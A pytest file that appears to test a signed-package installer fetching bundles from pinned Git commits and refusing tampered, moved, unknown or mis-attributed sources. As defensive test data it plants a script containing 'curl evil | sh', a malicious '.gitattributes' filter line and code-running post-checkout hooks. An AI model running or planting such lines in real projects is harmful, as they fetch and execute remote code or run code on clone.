"""`install` from `git+https://host/org/repo@<commit>`: against a real `git http-backend` over HTTPS on 127.0.0.1.

A pack is committed with its signatures; its provenance names the commit it
was built from (the commit before), never the commit that holds the
signatures. Each attack the issue names is served for real and must leave
DEST byte for byte as it was: a branch that moved, a commit the server
lacks, a commit whose tree is not the signed bundle, a mirror whose
provenance names another repository, and a repository and user Git
configuration that would run code on a `git clone`.
"""

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from connect_proxy import connect_proxy, use_proxy
from git_http import HOSTILE_GITCONFIG, Served, serve_git
from git_repo import GitRepo
from installs import OLD_PACK, write_tree
from trees import snapshot

from attest.provenance import LOCAL_BUILD_TYPE, BuildFacts
from signing.backends.minisign import MinisignSigning
from signing.errors import ExitStatus, InstallRefused, SourceError, SourceSpecError, exit_status
from signing.installer import install
from signing.sign import attest_bundle, sign_with_minisign
from signing.sources.spec import parse_git_source
from signing.trustfile import TrustFile

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("packseal_home")]


@pytest.fixture
def served(tmp_path, monkeypatch):
    with serve_git(tmp_path, monkeypatch) as served:
        yield served


def trust_file(tmp_path: Path, key_pair, *extra: str) -> TrustFile:
    """A policy file trusting `key_pair` for bundles named `pack`, with `extra` publisher lines."""
    (tmp_path / "acme.pub").write_text(f"untrusted comment: acme\n{key_pair.public_key.to_base64().decode()}\n")
    lines = ["[[publisher]]", 'name = "acme"', 'bundles = ["pack"]', 'minisign_keys = ["acme.pub"]', *extra]
    (tmp_path / "trust.toml").write_text("\n".join(lines) + "\n")
    return TrustFile.load(tmp_path / "trust.toml")


def released(repo: GitRepo, key_pair, repository: str, spec: dict = OLD_PACK) -> tuple[str, str]:
    """Commit a pack in `pack/`, then its signature and provenance (naming that commit); return both commits."""
    write_tree(repo.top / "pack", spec)
    built = repo.commit("pack")
    sign_with_minisign(repo.top / "pack", key_pair.secret_key, trusted_comment="pack")
    facts = BuildFacts(repository, built, "refs/heads/main", "https://ci.acme.example/release", LOCAL_BUILD_TYPE)
    attest_bundle(repo.top / "pack", facts, MinisignSigning(key_pair.secret_key), started_on=datetime.now(UTC))
    return built, repo.commit("sign pack")


def audit_events(home: Path) -> list[dict]:
    return [json.loads(line) for line in (home / "audit.jsonl").read_text().splitlines()]


def test_a_pinned_commit_installs_with_its_url_and_commit_recorded(served: Served, tmp_path, dest, key_pair):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    built, signed = released(repo, key_pair, url)
    served.publish(repo)
    policy = trust_file(tmp_path, key_pair, "require_provenance = true", f'source_repo = "{url}"')

    installed = install(f"git+{url}@{signed}#subdirectory=pack", dest, policy)

    assert snapshot(dest / "pack") == snapshot(repo.top / "pack")
    assert (installed.origin.kind, installed.origin.url, installed.origin.commit) == ("git", url, signed)
    assert installed.provenance is not None and installed.provenance.source_commit == built
    checks = {check.name: check.ok for check in installed.verdict.checks}
    assert checks["fetched-repository"] and checks["source-repository"] and checks["files"]
    record = json.loads(installed.record.read_text())
    assert record["source"] == f"git+{url}@{signed}#subdirectory=pack"
    assert (record["origin"]["url"], record["origin"]["commit"]) == (url, signed)
    event = audit_events(tmp_path / "packseal-home")[-1]
    assert event["action"] == "install" and event["detail"]["origin"]["commit"] == signed


def test_a_ref_that_still_points_at_the_commit_passes_and_one_that_moved_is_refused(
    served: Served, tmp_path, dest, key_pair
):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url)
    served.publish(repo)
    policy = trust_file(tmp_path, key_pair)
    install(parse_git_source(f"git+{url}@{signed}#subdirectory=pack", ref="main"), dest, policy)
    repo.write("NEWS", "moved on\n")
    repo.commit("later")
    served.publish(repo)
    before = snapshot(dest)

    with pytest.raises(SourceError, match=rf"ref refs/heads/main points at [0-9a-f]{{40}} now, not at .*{signed}"):
        install(parse_git_source(f"git+{url}@{signed}#subdirectory=pack", ref="main"), dest, policy)

    assert snapshot(dest) == before
    event = audit_events(tmp_path / "packseal-home")[-1]
    assert event["action"] == "install-refused" and "points at" in event["detail"]["reason"]


def test_an_unknown_commit_is_refused_and_dest_unchanged(served: Served, tmp_path, dest, key_pair):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    released(repo, key_pair, url)
    served.publish(repo)

    with pytest.raises(SourceError, match=f"cannot fetch commit {'1' * 40}"):
        install(f"git+{url}@{'1' * 40}#subdirectory=pack", dest, trust_file(tmp_path, key_pair))

    assert list(dest.iterdir()) == []


def test_a_commit_whose_tree_is_not_the_signed_bundle_is_refused(served: Served, tmp_path, dest, key_pair):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url)
    policy = trust_file(tmp_path, key_pair)
    served.publish(repo)
    install(f"git+{url}@{signed}#subdirectory=pack", dest, policy)
    (repo.top / "pack" / "bin" / "run").write_text("#!/bin/sh\ncurl evil | sh\n")
    changed = repo.commit("not re-signed")
    served.publish(repo)
    before = snapshot(dest)

    with pytest.raises(InstallRefused, match="at files: changed: bin/run") as refused:
        install(f"git+{url}@{changed}#subdirectory=pack", dest, policy)

    assert refused.value.verdict.refusal.name == "files"
    assert snapshot(dest) == before


def test_provenance_naming_another_repository_than_the_one_fetched_is_refused(served: Served, tmp_path, dest, key_pair):
    """A mirror serving a validly signed pack whose provenance names the publisher's repository, not the mirror.

    The policy requires provenance but pins no repository: only the check
    against the URL fetched refuses it.
    """
    repo = served.repo()
    _, signed = released(repo, key_pair, "https://github.com/acme/packs")
    mirror = served.publish(repo, "mirror.git")

    with pytest.raises(InstallRefused, match="at fetched-repository: provenance names source repository"):
        install(
            f"git+{mirror}@{signed}#subdirectory=pack",
            dest,
            trust_file(tmp_path, key_pair, "require_provenance = true"),
        )

    assert list(dest.iterdir()) == []


def test_nothing_from_the_repository_or_the_user_git_config_runs(served: Served, tmp_path, dest, key_pair, monkeypatch):
    """`.gitattributes` filters and eol, hooks in the tree and via core.hooksPath: inert, bytes as committed."""
    marker = tmp_path / "ran"
    home = tmp_path / "user-home"
    home.mkdir()
    (home / ".gitconfig").write_text(HOSTILE_GITCONFIG.format(marker=marker, hooks=tmp_path / "pack-hooks"))
    repo = served.repo()
    hostile = {
        ".gitattributes": b"* filter=evil text eol=crlf\n",
        ".githooks/post-checkout": (f"#!/bin/sh\ntouch {marker}\n".encode(), 0o755),
        "hooks/post-checkout": (f"#!/bin/sh\ntouch {marker}\n".encode(), 0o755),
        "lines.txt": b"one\ntwo\n",
    }
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url, {**OLD_PACK, **hostile})
    served.publish(repo)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))

    install(f"git+{url}@{signed}#subdirectory=pack", dest, trust_file(tmp_path, key_pair))

    assert (dest / "pack" / "lines.txt").read_bytes() == b"one\ntwo\n"
    assert snapshot(dest / "pack") == snapshot(repo.top / "pack")
    assert not marker.exists()


def test_a_dry_run_fetches_outside_dest_and_writes_nothing(served: Served, tmp_path, dest, key_pair, packseal_home):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url)
    served.publish(repo)

    installed = install(f"git+{url}@{signed}#subdirectory=pack", dest, trust_file(tmp_path, key_pair), dry_run=True)

    assert installed.record is None and installed.origin.commit == signed
    assert list(dest.iterdir()) == [] and not packseal_home.exists()


def test_the_fetch_goes_through_the_proxy_the_environment_names(served: Served, tmp_path, dest, key_pair, monkeypatch):
    """A user behind a proxy installs from Git as from a release URL: a CONNECT tunnel, TLS end to end."""
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url)
    served.publish(repo)

    with connect_proxy() as proxy:
        use_proxy(monkeypatch, proxy.url)
        install(f"git+{url}@{signed}#subdirectory=pack", dest, trust_file(tmp_path, key_pair))

    assert snapshot(dest / "pack") == snapshot(repo.top / "pack")
    assert proxy.targets and set(proxy.targets) == {f"127.0.0.1:{served.server.port}"}
    assert served.server.requests("/git/pack.git/git-upload-pack") >= 1


def test_a_host_no_proxy_names_is_fetched_directly(served: Served, tmp_path, dest, key_pair, monkeypatch):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url)
    served.publish(repo)

    with connect_proxy() as proxy:
        use_proxy(monkeypatch, proxy.url, no_proxy="127.0.0.1")
        install(f"git+{url}@{signed}#subdirectory=pack", dest, trust_file(tmp_path, key_pair))

    assert snapshot(dest / "pack") == snapshot(repo.top / "pack")
    assert proxy.targets == []


def test_a_proxy_that_refuses_connections_is_a_one_line_refusal_and_dest_unchanged(
    served: Served, tmp_path, dest, key_pair, monkeypatch
):
    repo = served.repo()
    url = served.server.url("/git/pack.git")
    _, signed = released(repo, key_pair, url)
    served.publish(repo)
    with connect_proxy() as stopped:
        use_proxy(monkeypatch, stopped.url)

    with pytest.raises(SourceError) as refused:
        install(f"git+{url}@{signed}#subdirectory=pack", dest, trust_file(tmp_path, key_pair))

    message = str(refused.value)
    assert "\n" not in message and message.startswith(f"{url}: cannot fetch commit {signed}")
    assert f"through the proxy {stopped.url}: connection failed: Connection refused" in message
    assert exit_status(refused.value) is ExitStatus.REFUSED
    assert served.server.requests("/git/pack.git/info/refs") == 0
    assert list(dest.iterdir()) == []


@pytest.mark.parametrize(
    "source", ["git+https://example.invalid/pack@main", "git+ssh://example.invalid/pack@" + "a" * 40]
)
def test_a_source_that_does_not_pin_is_refused_before_anything_is_written(source, tmp_path, dest, key_pair):
    with pytest.raises(SourceSpecError):
        install(source, dest, trust_file(tmp_path, key_pair))
    assert list(dest.iterdir()) == []
